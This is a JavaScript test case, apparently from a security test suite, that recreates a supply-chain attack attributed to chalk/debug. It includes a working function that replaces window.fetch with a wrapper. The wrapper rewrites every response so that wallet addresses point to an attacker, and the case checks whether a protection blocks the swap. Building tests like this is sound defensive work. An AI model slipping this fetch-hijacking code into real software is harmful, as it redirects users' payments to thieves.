// A01: a wrapper assigned over window.fetch = answers every JSON response with the attacker's addresses.
import { names } from './logs.mjs';

export default {
  id: 'A01',
  title: 'fetch replaced by window.fetch =, responses rewritten',
  source: 'chalk/debug, 8 September 2025',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  attack(a) {
    const before = fetch;
    const wrapper = async function (...args) {
      const response = await before.apply(this, args);
      const type = response.headers.get('Content-Type') || '';
      const text = type.includes('json')
        ? JSON.stringify(await response.clone().json())
        : await response.clone().text();
      const body = text.replace(/\b0x[a-fA-F0-9]{40}\b/g, a.EVIL);
      return new Response(body, {
        status: response.status,
        statusText: response.statusText,
        headers: response.headers,
      });
    };
    window.fetch = wrapper;
  },

  async action(a, app) {
    return app.fetchDepositAddress();
  },

  stolen: ({ result, a }) => names(result, a.EVIL),
  arrived: ({ result, a }) => names(result, a.GOOD) && !names(result, a.EVIL),
  violation: { surface: 'fetch', grade: 'tamper' },
};
